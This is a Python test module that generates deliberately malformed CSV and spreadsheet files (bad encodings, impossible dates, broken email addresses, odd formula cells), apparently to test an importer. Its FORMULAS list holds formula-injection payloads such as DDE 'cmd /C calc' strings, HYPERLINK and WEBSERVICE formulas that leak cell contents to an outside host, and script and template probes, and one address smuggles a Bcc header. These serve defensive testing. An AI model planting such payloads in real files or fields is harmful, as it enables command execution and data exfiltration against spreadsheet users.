"""Bad texts: delimiters and encodings, days, addresses and formulas gone wrong."""

from collections.abc import Iterator
from itertools import product

from tests.good_files import (
    PEOPLE,
    cell_xml,
    delimited,
    rows_xml,
    sheet_xml,
    with_people,
    xls,
    xlsx,
)

File = tuple[str, bytes]

ENCODINGS = ("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1252", "utf-32", "cp437")
QUIRKS = {
    "as it is": lambda text: text,
    "a stray mark": lambda text: text.replace("Tom", '"Tom'),
    "marks inside": lambda text: text.replace("Tom Birch", 'Tom "Bo" Birch'),
    "old line ends": lambda text: text.replace("\r\n", "\r"),
    "mixed line ends": lambda text: text.replace("\r\n", "\n", 2).replace("\r\n", "\r", 1),
    "zeros": lambda text: text.replace("ZX", "\x00ZX\x00"),
    "control signs": lambda text: text.replace("Uma", "\x01\x02U\x1bma\x7f"),
    "turned text": lambda text: text.replace("Gwen", "\u202eGwen\u202c").replace(
        "Tom", "T\u200bom"
    ),
    "ragged rows": lambda text: text.replace(",Yes", "").replace(",No", ",No,,,,extra"),
    "twice mangled": lambda text: text.replace("Zoë", "ZoÃ«").replace("Núñez", "NÃƒÂºÃƒÂ±ez"),
}
ODD_TEXTS = (
    b"\r\n" * 500,
    b"," * 900,
    b'"' * 1001,
    b"a\n" * 30 + b"\xff\xfe\xfd",
    b"sep=;\r\n",
    b"sep=\r\nname;email\r\n",
    b"name,email\n" + b"\xc3\x28,\xa0\xa1\n" * 9,
    b"\xef\xbb\xbf\xef\xbb\xbfname,email\nGwen,g@ash.example\n",
)

DAYS = (
    "29/02/2023",
    "29/02/2024",
    "31/04/2025",
    "00/00/0000",
    "13/13/2025",
    "1/2/3",
    "2025-13-01",
    "2025-02-30",
    "0000-00-00",
    "9999-12-31",
    "10000-01-01",
    "-1",
    "0",
    "1",
    "59",
    "60",
    "61",
    "43832",
    "2958465",
    "2958466",
    "99999999999",
    "1e308",
    "-1e308",
    "inf",
    "-inf",
    "nan",
    "NaT",
    "1583/10/10",
    "1900-01-00",
    "1904-01-01",
    "3 Smarch 2025",
    "yesterday",
    "13 May",
    "May 2025",
    "5/6/25 25:61:61",
    "24:00",
    "2025-04-03T10:00:00+99:99",
    "2025-04-03T10:00:00Z",
    "\u0663/\u0664/2025",
    "03\u200b/04/2025",
    "3rd April, 2025 at noon",
    "1743670800000000000000",
    "20250403",
    "03.04.2025 10:00 Uhr",
)
SERIALS = ("-1", "0", "60", "2958466", "1E300", "NaN", "", "abc")

ADDRESSES = (
    "gwen", "@", "@@", "gwen@", "@ash.example", "gwen@@ash.example", "gwen@ash", "gwen@.example",
    "gwen@ash..example", ".gwen@ash.example", "gwen.@ash.example", "gw en@ash.example",
    "gwen@ash .example", "gwen,ash@ash.example", "gwen@ash.example,", "<gwen@ash.example>",
    "Gwen Ash <gwen@ash.example>", "Gwen <gwen@ash.example", "gwen@ash.example>",
    "mailto:gwen@ash.example", "MAILTO:gwen@ash.example?subject=stop", '"gwen ash"@ash.example',
    '"gwen@home"@ash.example', "gwen@[127.0.0.1]", "gwen@[IPv6:::1]", "gwen@127.0.0.1",
    "gwen@ash.example; tom@birch.example", "gwen@ash.example tom@birch.example",
    "gwen@ash.example/tom@birch.example", "gwen@ash.example\ntom@birch.example",
    "gwen@b\u00fccher.example", "gw\u00e9n@ash.example", "gwen@xn--bcher-kva.example",
    "gwen@xn--.example", "gwen@xn--a.example", "gwen@\u0430sh.example", "\u200bgwen@ash.example",
    "gwen\u200b@ash.example", "gwen@ash.example\u200b", "gwen@ash\u3002example", "gwen\uff20ash.example",
    "gwen\u202e@ash.example", "gwen@ash.example\x00", "gwen(at)ash(dot)example", "gwen at ash.example",
    "g" * 65 + "@ash.example", "gwen@" + "a" * 64 + ".example", "gwen@" + "a." * 130 + "example",
    "a" * 5000 + "@ash.example", "@" * 3000, "gwen@ash.example" * 300, "gwen+" + "x" * 60 + "@ash.example",
    "gwen@ash.example\r\nBcc: tom@birch.example", "gwen%ash.example@birch.example", "gwen@ash.example.",
    "gwen@-ash.example", "gwen@ash_.example", "'gwen@ash.example'", "=gwen@ash.example", "gwen@ash.exampl\u00eb",
)  # fmt: skip

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://ash.example/?x="&A1,"here")', "=IMPORTXML(CONCAT(\"http://ash.example/\",A1),\"//a\")",
    "\t=1+1", "\r=1+1", "\uff1d1+1", "=" * 3000, "=" + "(" * 2000, "=WEBSERVICE(\"http://ash.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "{{7*7}}", "<script>alert(1)</script>",
)  # fmt: skip
FORMULA_CELLS = (
    '<c r="B6"><f>A1+1</f></c>',
    '<c r="B6"><f>A1+1</f><v/></c>',
    '<c r="B6" t="str"><f>"Gwen"</f><v>Gwen</v></c>',
    '<c r="B6" t="e"><f>1/0</f><v>#DIV/0!</v></c>',
    '<c r="B6" t="e"><v>#NOTANERROR</v></c>',
    '<c r="B6"><f t="shared" si="4294967295"/></c>',
    '<c r="B6"><f t="shared" ref="A1:XFD1048576" si="0">A1</f><v>1</v></c>',
    '<c r="B6"><f t="array" ref="ZZZZ1">A1</f><v>1</v></c>',
    '<c r="B6"><f>[1]Sheet!A1</f><v>1</v></c>',
    f'<c r="B6"><f>{"(" * 20_000}</f><v>1</v></c>',
)


def texts() -> Iterator[File]:
    """Eighty and more of every dialect and encoding."""
    for encoding, (quirk, change) in product(ENCODINGS, QUIRKS.items()):
        content = change(delimited()).encode(encoding, "replace")
        yield f"text {encoding} {quirk}.csv", content
    for number, content in enumerate(ODD_TEXTS):
        yield f"text odd {number}.csv", content


def days() -> Iterator[File]:
    for number, day in enumerate(DAYS):
        yield f"day {number}.csv", delimited(with_people(day, 0)).encode()
    for number, serial in enumerate(SERIALS):
        cell = f'<row r="6"><c r="A6" s="2"><v>{serial}</v></c>{cell_xml("B6", "Gwen")}</row>'
        yield f"day serial {number}.xlsx", xlsx(sheet_xml(rows_xml() + cell))


def addresses() -> Iterator[File]:
    for number, address in enumerate(ADDRESSES):
        yield f"address {number}.csv", delimited(with_people(address, 2)).encode()


def formulas() -> Iterator[File]:
    for number, formula in enumerate(FORMULAS):
        yield f"formula {number}.csv", delimited(with_people(formula, 1)).encode()
    for number, cell in enumerate(FORMULA_CELLS):
        rows = f'{rows_xml()}<row r="6">{cell}</row>'
        yield f"formula cell {number}.xlsx", xlsx(sheet_xml(rows))
    for number, column in enumerate(range(5)):
        yield f"formula column {number}.xls", xls(with_people("=1+1", column))
    yield "formula headings.csv", delimited([[f"={h}" for h in PEOPLE[0]], *PEOPLE[1:]]).encode()
